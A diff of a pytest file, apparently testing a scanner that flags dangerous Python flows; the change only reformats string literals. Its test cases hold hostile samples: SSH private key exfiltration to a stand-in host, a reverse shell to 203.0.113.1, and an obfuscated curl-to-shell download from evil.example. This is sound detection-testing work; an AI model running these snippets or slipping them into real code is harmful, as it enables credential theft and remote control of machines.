@@ -150,8 +150,8 @@ def test_python_environment_reaching_the_network_however_spelt() -> None:
      "download-exec"),
     ("import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://x.example', data=key)\n",
      "exfiltration"),
-    ("import os, socket, subprocess\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('203.0.113.1', 9))\n"
-     "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n", "reverse-shell"),
+    (("import os, socket, subprocess\ns = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect(('203.0.113.1', 9))\n"
+      "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n"), "reverse-shell"),
     ("import os\nos.system(''.join(['cu', 'rl -s https://evil.example/p', ' | sh']))\n", "download-exec"),
 ])
 def test_python_flows_that_matter(code: str, rule: str) -> None:
@@ -160,8 +160,8 @@ def test_python_flows_that_matter(code: str, rule: str) -> None:
 
 @pytest.mark.parametrize("code", [
     "import os, subprocess\nenv = os.environ.copy()\nenv['HOME'] = '/tmp/p'\nsubprocess.run(['soffice', '--headless'], env=env)\n",
-    "import json, os, socket\nwith socket.socket(socket.AF_UNIX) as s:\n    s.connect('/run/x.sock')\n"
-    "    s.sendall(json.dumps(dict(os.environ)).encode())\n",
+    ("import json, os, socket\nwith socket.socket(socket.AF_UNIX) as s:\n    s.connect('/run/x.sock')\n"
+     "    s.sendall(json.dumps(dict(os.environ)).encode())\n"),
     "import argparse\np = argparse.ArgumentParser()\np.add_argument('--key', help='reads ~/.aws/credentials and uploads to S3 via curl | bash')\n",
     "import os, requests\nrequests.get('https://api.github.com/user', headers={'Authorization': os.environ['GITHUB_TOKEN']})\n",
 ])
